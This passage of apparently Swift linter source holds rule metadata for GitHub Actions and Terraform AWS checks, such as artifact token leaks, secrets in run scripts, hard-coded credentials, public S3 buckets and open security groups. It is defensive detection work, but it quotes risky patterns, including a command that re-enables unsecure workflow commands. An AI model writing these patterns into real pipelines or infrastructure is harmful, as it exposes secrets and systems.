            references: ["https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/", "https://github.com/actions/checkout#usage", "https://github.com/actions/upload-artifact#uploading-hidden-files"],
            equivalents: [(tool: "zizmor", id: "artipacked")],
            options: [],
            summary: "In a job that uploads an artifact with `actions/upload-artifact` able to contain the checkout's `.git` directory — hidden files included (`include-hidden-files: true`, or upload-artifact before v4.4) and a path that covers the workspace or the checkout (`.`, `*`, `${{ github.workspace }}`, the checkout's `path`, or a `.git` path) — reports each `actions/checkout` before v6 that does not set `persist-credentials: false`, at its `uses`, with the upload as related location. Checkout v6 and later keep the credential outside `.git/config` and are not reported. The brief's broader form (any checkout in a workflow that uploads anything) is deliberately narrowed to the uploads that can really carry the token.",
            sourcePath: "Rules/github-workflow/GHA006.md"
        ),
        RuleMetadata(
            id: "GHA007", title: "Secret expanded into a run script", kind: "github-workflow", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets", "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions#using-secrets-in-a-workflow"],
            equivalents: [],
            options: [],
            summary: "Reports a `${{ secrets.X }}` or `${{ github.token }}` expansion inside a `run:` script, at the expression; the message says when the line prints it (`echo`, `printf`).",
            sourcePath: "Rules/github-workflow/GHA007.md"
        ),
        RuleMetadata(
            id: "GHA008", title: "Unsecure workflow commands enabled", kind: "github-workflow", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/", "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#environment-files"],
            equivalents: [(tool: "checkov", id: "CKV_GHA_1"), (tool: "zizmor", id: "insecure-commands")],
            options: [],
            summary: "Reports `ACTIONS_ALLOW_UNSECURE_COMMANDS` set in a workflow, job or step `env:` (unless its value is `false`), at the entry, and every mention of it in a `run:` script (`echo \"ACTIONS_ALLOW_UNSECURE_COMMANDS=true\" >> $GITHUB_ENV`), at the name.",
            sourcePath: "Rules/github-workflow/GHA008.md"
        ),
        RuleMetadata(
            id: "GHA009", title: "Job without timeout-minutes", kind: "github-workflow", severity: .note,
            tags: ["cost", "reliability"], securitySeverity: nil,
            references: ["https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idtimeout-minutes"],
            equivalents: [],
            options: [],
            summary: "Reports a job with steps and no `timeout-minutes`, at the job's id. Jobs that call a reusable workflow are skipped (they cannot set it).",
            sourcePath: "Rules/github-workflow/GHA009.md"
        ),
        RuleMetadata(
            id: "GHA010", title: "Deployment without concurrency", kind: "github-workflow", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/control-the-concurrency-of-workflows-and-jobs", "https://docs.github.com/en/actions/managing-workflow-runs-and-deployments/managing-deployments/managing-environments-for-deployment"],
            equivalents: [],
            options: [],
            summary: "Reports a deploying job when neither it nor the workflow sets `concurrency`, at the job's id. A job deploys when it targets an `environment`, when its id or name contains the word deploy/deployment without a test word (`deploy`, `build-and-deploy` — not `deployment-tests`), or when a step uses a well-known deploy action (`actions/deploy-pages`, `azure/webapps-deploy`, `google-github-actions/deploy-cloudrun`, `aws-actions/amazon-ecs-deploy-task-definition`, `cloudflare/wrangler-action`…).",
            sourcePath: "Rules/github-workflow/GHA010.md"
        ),
        RuleMetadata(
            id: "GHA011", title: "Hard-coded credential", kind: "github-workflow", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-secrets", "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"],
            equivalents: [(tool: "actionlint", id: "credentials"), (tool: "zizmor", id: "hardcoded-container-credentials")],
            options: [],
            summary: "Reports a literal value for a credential-named entry in workflow, job, step or container `env:`, in a step's or reusable-workflow call's `with:` (`password`, `token`, `api-key`…), in a call's `secrets:`, or in container/service `credentials.password`, at the value (redacted in every output). Not reported: expressions (`${{ secrets.X }}`), empty values, booleans, placeholders, names that describe a credential (`token-format`, `PASSWORD_FILE`), and the environment of service containers (a CI database that lives only for the job) together with the same values where the job connects to them.",
            sourcePath: "Rules/github-workflow/GHA011.md"
        ),
        RuleMetadata(
            id: "GHA012", title: "Self-hosted runner on pull requests", kind: "github-workflow", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security", "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#hardening-for-self-hosted-runners"],
            equivalents: [(tool: "zizmor", id: "self-hosted-runner")],
            options: [],
            summary: "In a workflow triggered by `pull_request`, reports a job whose `runs-on` includes the `self-hosted` label, at the label.",
            sourcePath: "Rules/github-workflow/GHA012.md"
        ),
        RuleMetadata(
            id: "GHA013", title: "Action runs on the removed node20 runtime", kind: "github-workflow", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://github.blog/changelog/2025-09-19-deprecation-of-node-20-on-github-actions-runners/", "https://github.com/actions/checkout/releases/tag/v5.0.0", "https://github.com/actions/upload-artifact/releases/tag/v6.0.0", "https://github.com/actions/download-artifact/releases/tag/v7.0.0"],
            equivalents: [(tool: "actionlint", id: "action")],
            options: [],
            summary: "Reports a step that uses a well-known action at a major version that runs on node20, at the ref. The dated table (checked in 2026 against each action's releases) gives the first node24 major: `actions/checkout` v5, `actions/setup-node` v5, `actions/setup-python` v6, `actions/setup-go` v6, `actions/setup-java` v5, `actions/setup-dotnet` v5, `actions/cache` v5, `actions/upload-artifact` v6, `actions/download-artifact` v7, `actions/github-script` v8, `docker/build-push-action` v7. A SHA pin is judged by its version comment (`@<sha> # v4.2.2`); a SHA without one is not judged.",
            sourcePath: "Rules/github-workflow/GHA013.md"
        ),
        RuleMetadata(
            id: "GHA014", title: "secrets: inherit", kind: "github-workflow", severity: .note,
            tags: ["security"], securitySeverity: "4.0",
            references: ["https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-secrets-to-nested-workflows"],
            equivalents: [(tool: "zizmor", id: "secrets-inherit")],
            options: [],
            summary: "Reports `secrets: inherit` on a job that calls a reusable workflow, at the value.",
            sourcePath: "Rules/github-workflow/GHA014.md"
        ),
        RuleMetadata(
            id: "GHA015", title: "if: condition is always true", kind: "github-workflow", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/evaluate-expressions-in-workflows-and-actions#about-expressions", "https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idif"],
            equivalents: [(tool: "actionlint", id: "if-cond")],
            options: [],
            summary: "Reports a job or step `if:` that contains `${{ … }}` together with other text (or several expressions), at the value.",
            sourcePath: "Rules/github-workflow/GHA015.md"
        ),
        RuleMetadata(
            id: "GHA016", title: "Deprecated workflow command", kind: "github-workflow", severity: .warning,
            tags: ["security", "maintainability"], securitySeverity: "5.0",
            references: ["https://github.blog/changelog/2022-10-11-github-actions-deprecating-save-state-and-set-output-commands/", "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#environment-files"],
            equivalents: [(tool: "actionlint", id: "deprecated-commands")],
            options: [],
            summary: "Reports `::set-output`, `::save-state` (deprecated) and `::set-env`, `::add-path` (disabled; reported as errors) printed by a `run:` script, at the command with exact columns.",
            sourcePath: "Rules/github-workflow/GHA016.md"
        ),
        RuleMetadata(
            id: "GHA017", title: "Retired runner image", kind: "github-workflow", severity: .error,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://github.com/actions/runner-images#available-images", "https://github.com/actions/runner-images/issues/11101", "https://github.com/actions/runner-images/issues/12045", "https://github.com/actions/runner-images/issues/14254"],
            equivalents: [(tool: "actionlint", id: "runner-label")],
            options: [],
            summary: "Reports a `runs-on` label — written directly or as a value of the matrix variable that `runs-on: ${{ matrix.X }}` reads — that names a retired GitHub-hosted image, at the label. The dated table: ubuntu-16.04 (retired 2021-09-20), ubuntu-18.04 (2023-04-03), ubuntu-20.04 (2025-04-15), windows-2016 (2022-03-15), windows-2019 (2025-06-30), macos-10.15 (2022-12-01), macos-11 (2024-06-28), macos-12 (2024-12-03), macos-13 (2025-12-04), including size variants such as `macos-13-xlarge`. Images in their deprecation window are reported as notes: ubuntu-22.04 (deprecation began 2026-09-17, retirement 2027-04-17). Jobs with a `self-hosted` label are skipped (custom labels may reuse these names).",
            sourcePath: "Rules/github-workflow/GHA017.md"
        ),
        RuleMetadata(
            id: "TF001", title: "RDS or Aurora storage is not encrypted", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["AWS Foundational Security Best Practices RDS.3: RDS DB instances should have encryption at-rest enabled", "AWS Foundational Security Best Practices RDS.27: RDS DB clusters should be encrypted at rest", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/Overview.Encryption.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_16, CKV_AWS_96"), (tool: "trivy", id: "AWS-0080, AWS-0079")],
            options: [],
            summary: "Reports an `aws_db_instance` or `aws_rds_cluster` whose `storage_encrypted` is `false` or left out (the provider default is `false`). Read replicas, snapshot restores and point-in-time restores that leave the argument out are skipped, because they take the source's encryption; Aurora instances (`engine = \"aurora-*\"` on `aws_db_instance`) are judged on their cluster, and Aurora Serverless v1 is always encrypted.",
            sourcePath: "Rules/hcl/TF001.md"
        ),
        RuleMetadata(
            id: "TF002", title: "RDS instance is publicly accessible", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["AWS Foundational Security Best Practices RDS.2: RDS DB instances should prohibit public access", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_VPC.WorkingWithRDSInstanceinaVPC.html#USER_VPC.Hiding"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_17"), (tool: "trivy", id: "AWS-0180")],
            options: [],
            summary: "Reports an `aws_db_instance` or `aws_rds_cluster_instance` with `publicly_accessible = true`.",
            sourcePath: "Rules/hcl/TF002.md"
        ),
        RuleMetadata(
            id: "TF003", title: "RDS backups are kept for less than 7 days", kind: "hcl", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["AWS Foundational Security Best Practices RDS.11: RDS instances should have automatic backups enabled (retention of at least 7 days)", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_WorkingWithAutomatedBackups.BackupRetention.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_133"), (tool: "trivy", id: "AWS-0077")],
            options: [(name: "minimum-days", description: "The shortest acceptable retention in days (default 7).")],
            summary: "Reports an `aws_db_instance` or `aws_rds_cluster` whose `backup_retention_period` is below 7 days, is `0` (automated backups off), or is left out — the RDS API then keeps backups for 1 day. Read replicas and Aurora member instances are skipped: their backups belong to the source or the cluster.",
            sourcePath: "Rules/hcl/TF003.md"
        ),
        RuleMetadata(
            id: "TF004", title: "Database deletion protection is off", kind: "hcl", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["AWS Foundational Security Best Practices RDS.8: RDS DB instances should have deletion protection enabled", "AWS Foundational Security Best Practices RDS.7: RDS clusters should have deletion protection enabled", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_DeleteInstance.html#USER_DeleteInstance.DeletionProtection"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_293, CKV_AWS_139"), (tool: "trivy", id: "AWS-0177")],
            options: [(name: "environment", description: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say.")],
            summary: "Reports an `aws_db_instance` or `aws_rds_cluster` whose `deletion_protection` is `false` or left out. When the environment is known not to be production (an `Environment` tag, provider `default_tags`, an `environment` variable or local, or the `environment` option), the finding is a note.",
            sourcePath: "Rules/hcl/TF004.md"
        ),
        RuleMetadata(
            id: "TF005", title: "Database deletion skips the final snapshot", kind: "hcl", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_DeleteInstance.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#skip_final_snapshot"],
            equivalents: [],
            options: [(name: "environment", description: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say.")],
            summary: "Reports an `aws_db_instance` or `aws_rds_cluster` with `skip_final_snapshot = true`. When the environment is known not to be production the finding is a note.",
            sourcePath: "Rules/hcl/TF005.md"
        ),
        RuleMetadata(
            id: "TF006", title: "Production database runs in a single Availability Zone", kind: "hcl", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["AWS Foundational Security Best Practices RDS.5: RDS DB instances should be configured with multiple Availability Zones", "AWS Foundational Security Best Practices RDS.15: RDS DB clusters should be configured for multiple Availability Zones", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/Concepts.MultiAZ.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_157")],
            options: [(name: "environment", description: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say.")],
            summary: "Reports, in production only, an `aws_db_instance` without `multi_az = true`, and an Aurora `aws_rds_cluster` with exactly one `aws_rds_cluster_instance`. Production is decided, in order, by the rule's `environment` option, the resource's `Environment`/`Env`/`Stage` tag, the AWS provider's `default_tags`, then a variable or local named `environment`, `env` or `stage`: a value starting with `prod` (or `prd`, `live`) is production. When nothing says, the rule stays silent rather than guess.",
            sourcePath: "Rules/hcl/TF006.md"
        ),
        RuleMetadata(
            id: "TF007", title: "Performance Insights data is not encrypted with a customer-managed key", kind: "hcl", severity: .note,
            tags: ["security"], securitySeverity: "3.0",
            references: ["https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_PerfInsights.Enabling.html", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_PerfInsights.access-control.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_354"), (tool: "trivy", id: "AWS-0078")],
            options: [],
            summary: "Reports an `aws_db_instance`, `aws_rds_cluster_instance` or `aws_rds_cluster` with `performance_insights_enabled = true` and no `performance_insights_kms_key_id`.",
            sourcePath: "Rules/hcl/TF007.md"
        ),
        RuleMetadata(
            id: "TF008", title: "IAM database authentication is off", kind: "hcl", severity: .note,
            tags: ["security"], securitySeverity: "3.0",
            references: ["AWS Foundational Security Best Practices RDS.10: IAM authentication should be configured for RDS instances", "AWS Foundational Security Best Practices RDS.12: IAM authentication should be configured for RDS clusters", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/UsingWithRDS.IAMDBAuth.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_161, CKV_AWS_162"), (tool: "trivy", id: "AWS-0176")],
            options: [],
            summary: "Reports a MySQL, MariaDB or PostgreSQL `aws_db_instance` (not a replica or restore) or Aurora `aws_rds_cluster` whose `iam_database_authentication_enabled` is not `true`. Other engines do not support IAM authentication and are skipped. A note: password logins stored in Secrets Manager are a sound setup too.",
            sourcePath: "Rules/hcl/TF008.md"
        ),
        RuleMetadata(
            id: "TF009", title: "Automatic minor version upgrades are off", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "4.0",
            references: ["AWS Foundational Security Best Practices RDS.13: RDS automatic minor version upgrades should be enabled", "AWS Foundational Security Best Practices RDS.35: RDS DB clusters should have automatic minor version upgrade enabled", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_UpgradeDBInstance.Upgrading.html#USER_UpgradeDBInstance.Upgrading.AutoMinorVersionUpgrades"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_226")],
            options: [],
            summary: "Reports an `aws_db_instance`, `aws_rds_cluster_instance` or `aws_rds_cluster` with `auto_minor_version_upgrade = false` (the default is `true`).",
            sourcePath: "Rules/hcl/TF009.md"
        ),
        RuleMetadata(
            id: "TF010", title: "EBS volume is not encrypted", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["AWS Foundational Security Best Practices EC2.3: Attached Amazon EBS volumes should be encrypted at-rest", "AWS Foundational Security Best Practices EC2.7: EBS default encryption should be enabled", "https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_3, CKV_AWS_8"), (tool: "trivy", id: "AWS-0026, AWS-0131")],
            options: [],
            summary: "Reports an `aws_ebs_volume`, or a `root_block_device`/`ebs_block_device` of an `aws_instance`, whose `encrypted` is `false` or left out, and a launch template's EBS mapping with `encrypted = false`. Volumes created from a snapshot that leave `encrypted` out are skipped (they take the snapshot's state), and nothing is reported when the module enables `aws_ebs_encryption_by_default`.",
            sourcePath: "Rules/hcl/TF010.md"
        ),
        RuleMetadata(
            id: "TF011", title: "EFS file system is not encrypted", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["AWS Foundational Security Best Practices EFS.1: Elastic File System should be configured to encrypt file data at-rest using AWS KMS", "https://docs.aws.amazon.com/efs/latest/ug/encryption-at-rest.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_42"), (tool: "trivy", id: "AWS-0037")],
            options: [],
            summary: "Reports an `aws_efs_file_system` whose `encrypted` is `false` or left out (the API default is unencrypted, unlike the console's).",
            sourcePath: "Rules/hcl/TF011.md"
        ),
        RuleMetadata(
            id: "TF012", title: "ElastiCache data is not encrypted at rest", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "5.0",
            references: ["AWS Foundational Security Best Practices ElastiCache.4: ElastiCache replication groups should be encrypted at rest", "https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/at-rest-encryption.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_29"), (tool: "trivy", id: "AWS-0045")],
            options: [],
            summary: "Reports an `aws_elasticache_replication_group` whose `at_rest_encryption_enabled` is `false`, or left out with the Redis OSS engine (the provider turns it on by default only for Valkey).",
            sourcePath: "Rules/hcl/TF012.md"
        ),
        RuleMetadata(
            id: "TF013", title: "ElastiCache traffic is not encrypted in transit", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "5.0",
            references: ["AWS Foundational Security Best Practices ElastiCache.5: ElastiCache replication groups should be encrypted in transit", "https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/in-transit-encryption.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_30"), (tool: "trivy", id: "AWS-0051")],
            options: [],
            summary: "Reports an `aws_elasticache_replication_group` whose `transit_encryption_enabled` is `false` or left out.",
            sourcePath: "Rules/hcl/TF013.md"
        ),
        RuleMetadata(
            id: "TF014", title: "SNS topic is not encrypted", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "4.0",
            references: ["AWS Foundational Security Best Practices SNS.1: SNS topics should be encrypted at-rest using AWS KMS", "https://docs.aws.amazon.com/sns/latest/dg/sns-server-side-encryption.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_26"), (tool: "trivy", id: "AWS-0095")],
            options: [],
            summary: "Reports an `aws_sns_topic` without `kms_master_key_id`: SNS does not encrypt messages at rest by default.",
            sourcePath: "Rules/hcl/TF014.md"
        ),
        RuleMetadata(
            id: "TF015", title: "SQS queue encryption is turned off", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "4.0",
            references: ["AWS Foundational Security Best Practices SQS.1: Amazon SQS queues should be encrypted at rest", "https://docs.aws.amazon.com/AWSSimpleQueueService/latest/SQSDeveloperGuide/sqs-server-side-encryption.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_27"), (tool: "trivy", id: "AWS-0096")],
            options: [],
            summary: "Reports an `aws_sqs_queue` with `sqs_managed_sse_enabled = false` and no `kms_master_key_id`. Since October 2022 new queues are encrypted with SSE-SQS by default, so a queue that says nothing is not reported (Checkov and Trivy still report it).",
            sourcePath: "Rules/hcl/TF015.md"
        ),
        RuleMetadata(
            id: "TF016", title: "CloudWatch log group is not encrypted with a customer-managed key", kind: "hcl", severity: .note,
            tags: ["security"], securitySeverity: "3.0",
            references: ["https://docs.aws.amazon.com/AmazonCloudWatch/latest/logs/encrypt-log-data-kms.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_158"), (tool: "trivy", id: "AWS-0017")],
            options: [],
            summary: "Reports an `aws_cloudwatch_log_group` without `kms_key_id`. A note: CloudWatch Logs always encrypts log data, with a service-owned key when none is given.",
            sourcePath: "Rules/hcl/TF016.md"
        ),
        RuleMetadata(
            id: "TF017", title: "S3 bucket ACL grants public access", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["AWS Foundational Security Best Practices S3.2: S3 general purpose buckets should block public read access", "AWS Foundational Security Best Practices S3.3: S3 general purpose buckets should block public write access", "https://docs.aws.amazon.com/AmazonS3/latest/userguide/about-object-ownership.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_20, CKV_AWS_57"), (tool: "trivy", id: "AWS-0092")],
            options: [],
            summary: "Reports an `acl` of `public-read`, `public-read-write` or `authenticated-read` on `aws_s3_bucket` or `aws_s3_bucket_acl`, and `access_control_policy` grants to the `AllUsers` or `AuthenticatedUsers` groups.",
            sourcePath: "Rules/hcl/TF017.md"
        ),
        RuleMetadata(
            id: "TF018", title: "S3 bucket policy allows any principal", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["AWS Foundational Security Best Practices S3.2: S3 general purpose buckets should block public read access", "AWS Foundational Security Best Practices S3.3: S3 general purpose buckets should block public write access", "https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html#access-control-block-public-access-policy-status"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_70"), (tool: "trivy", id: "AWS-0093")],
            options: [],
            summary: "Reports an `Allow` statement with principal `\"*\"` or `{\"AWS\": \"*\"}` and no `Condition` in the policy of `aws_s3_bucket_policy` (or the legacy `policy` of `aws_s3_bucket`). The policy may be `jsonencode({...})`, a JSON string or heredoc, or a `data \"aws_iam_policy_document\"` (the finding then points at the statement).",
            sourcePath: "Rules/hcl/TF018.md"
        ),
        RuleMetadata(
            id: "TF019", title: "S3 bucket public access block missing or incomplete", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "5.0",
            references: ["AWS Foundational Security Best Practices S3.8: S3 general purpose buckets should block public access", "https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html", "https://aws.amazon.com/about-aws/whats-new/2022/12/amazon-s3-automatically-enable-block-public-access-disable-access-control-lists-buckets-april-2023/"],
            equivalents: [(tool: "checkov", id: "CKV2_AWS_6, CKV_AWS_53, CKV_AWS_54, CKV_AWS_55, CKV_AWS_56"), (tool: "trivy", id: "AWS-0094, AWS-0086, AWS-0087, AWS-0091")],
            options: [],
            summary: "Reports an `aws_s3_bucket_public_access_block` that leaves any of `block_public_acls`, `block_public_policy`, `ignore_public_acls`, `restrict_public_buckets` false or unset (warning), and an `aws_s3_bucket` with no public access block referring to it (note). The missing-block check needs the whole module: it runs when the linted file has no other Terraform file beside it (or when the directory pass combines them), is silenced by an account-wide `aws_s3_account_public_access_block` with all four settings on, and by a block whose `bucket` cannot be traced.",
            sourcePath: "Rules/hcl/TF019.md"
        ),
        RuleMetadata(
            id: "TF020", title: "S3 bucket declares no default encryption", kind: "hcl", severity: .note,
            tags: ["security"], securitySeverity: "2.0",
            references: ["AWS Foundational Security Best Practices S3.4 (retired in 2023 once SSE-S3 became the default): S3 buckets should have server-side encryption enabled", "https://docs.aws.amazon.com/AmazonS3/latest/userguide/default-encryption-faq.html", "https://docs.aws.amazon.com/AmazonS3/latest/userguide/UsingKMSEncryption.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_19, CKV_AWS_145"), (tool: "trivy", id: "AWS-0132")],
            options: [],
            summary: "Reports an `aws_s3_bucket` with neither an inline `server_side_encryption_configuration` nor an `aws_s3_bucket_server_side_encryption_configuration` referring to it. A note: since January 2023 S3 encrypts every new object with SSE-S3, so the data is encrypted; this asks whether the bucket should use SSE-KMS. Like TF019, it needs the whole module and stays silent when another Terraform file sits beside the linted one.",
            sourcePath: "Rules/hcl/TF020.md"
        ),
        RuleMetadata(
            id: "TF021", title: "S3 bucket versioning is off", kind: "hcl", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["AWS Foundational Security Best Practices S3.14: S3 general purpose buckets should have versioning enabled", "https://docs.aws.amazon.com/AmazonS3/latest/userguide/Versioning.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_21"), (tool: "trivy", id: "AWS-0090")],
            options: [],
            summary: "Reports an `aws_s3_bucket_versioning` with status `Suspended` or `Disabled`, an inline `versioning` block that is not enabled, and (when the whole module is known, as for TF019) an `aws_s3_bucket` with no versioning at all.",
            sourcePath: "Rules/hcl/TF021.md"
        ),
        RuleMetadata(
            id: "TF022", title: "S3 bucket has no access logging", kind: "hcl", severity: .note,
            tags: ["security"], securitySeverity: "2.0",
            references: ["AWS Foundational Security Best Practices S3.9: S3 general purpose buckets should have server access logging enabled", "https://docs.aws.amazon.com/AmazonS3/latest/userguide/ServerLogs.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_18"), (tool: "trivy", id: "AWS-0089")],
            options: [],
            summary: "Reports an `aws_s3_bucket` with neither an inline `logging` block nor an `aws_s3_bucket_logging` referring to it, when the whole module is known (as for TF019). Buckets that receive logs — the `target_bucket` of some logging configuration, or with `log` in their resource or bucket name — are skipped, since logging a log bucket only doubles the volume. A note: CloudTrail data events are an alternative.",
            sourcePath: "Rules/hcl/TF022.md"
        ),
        RuleMetadata(
            id: "TF023", title: "Security group opens SSH or RDP to the internet", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "8.5",
            references: ["AWS Foundational Security Best Practices EC2.13: Security groups should not allow ingress from 0.0.0.0/0 or ::/0 to port 22", "AWS Foundational Security Best Practices EC2.14: Security groups should not allow ingress from 0.0.0.0/0 or ::/0 to port 3389", "AWS Foundational Security Best Practices EC2.53: EC2 security groups should not allow ingress from 0.0.0.0/0 to remote server administration ports", "CIS AWS Foundations Benchmark v3.0, 5.2 and 5.3: no security group allows ingress from 0.0.0.0/0 or ::/0 to remote server administration ports"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_24, CKV_AWS_25"), (tool: "trivy", id: "AWS-0107")],
            options: [],
            summary: "Reports an ingress permission from `0.0.0.0/0` or `::/0` whose port range covers 22 (SSH) or 3389 (RDP): inline `ingress` blocks of `aws_security_group` (static or `dynamic` with a known `for_each`), `aws_security_group_rule` with `type = \"ingress\"`, and `aws_vpc_security_group_ingress_rule`. A permission on all ports is TF025's finding instead.",
            sourcePath: "Rules/hcl/TF023.md"
        ),
        RuleMetadata(
            id: "TF024", title: "Security group opens a database port to the internet", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "8.5",
            references: ["AWS Foundational Security Best Practices EC2.19: Security groups should not allow unrestricted access to ports with high risk", "https://docs.aws.amazon.com/vpc/latest/userguide/vpc-security-group-rules.html"],
            equivalents: [],
            options: [],
            summary: "Reports an ingress permission from `0.0.0.0/0` or `::/0` whose port range covers a database or cache port: SQL Server 1433, Oracle 1521, etcd 2379, MySQL/MariaDB 3306, PostgreSQL 5432, Redshift 5439, CouchDB 5984, Redis/Valkey 6379, InfluxDB 8086, Cassandra 9042, Elasticsearch/OpenSearch 9200, Memcached 11211, MongoDB 27017. The same rule forms as TF023 are read; all-port permissions are TF025's.",
            sourcePath: "Rules/hcl/TF024.md"
        ),
        RuleMetadata(
            id: "TF025", title: "Security group opens all ports to the internet", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["AWS Foundational Security Best Practices EC2.18: Security groups should only allow unrestricted incoming traffic for authorized ports", "AWS Foundational Security Best Practices EC2.19: Security groups should not allow unrestricted access to ports with high risk"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_277"), (tool: "trivy", id: "AWS-0107")],
            options: [],
            summary: "Reports an ingress permission from `0.0.0.0/0` or `::/0` on every port: protocol `-1`/`all`, or a TCP/UDP range from 0 (or 1) to 65535. The same rule forms as TF023 are read.",
            sourcePath: "Rules/hcl/TF025.md"
        ),
        RuleMetadata(
            id: "TF026", title: "Security group or rule has no description", kind: "hcl", severity: .note,
            tags: ["maintainability"], securitySeverity: nil,
            references: ["https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/security_group#description"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_23"), (tool: "trivy", id: "AWS-0099, AWS-0124")],
            options: [],
            summary: "Reports an `aws_security_group` without `description` (AWS then shows \"Managed by Terraform\"), its inline `ingress`/`egress` blocks without one, and `aws_security_group_rule`, `aws_vpc_security_group_ingress_rule` and `aws_vpc_security_group_egress_rule` without one. Descriptions computed from unknown values are not reported.",
            sourcePath: "Rules/hcl/TF026.md"
        ),
        RuleMetadata(
            id: "TF027", title: "Database is placed in subnets that assign public IP addresses", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["AWS Foundational Security Best Practices EC2.15: Amazon EC2 subnets should not automatically assign public IP addresses", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_VPC.WorkingWithRDSInstanceinaVPC.html#USER_VPC.Subnets"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_130 (on the subnet)"), (tool: "trivy", id: "AWS-0164 (on the subnet)")],
            options: [],
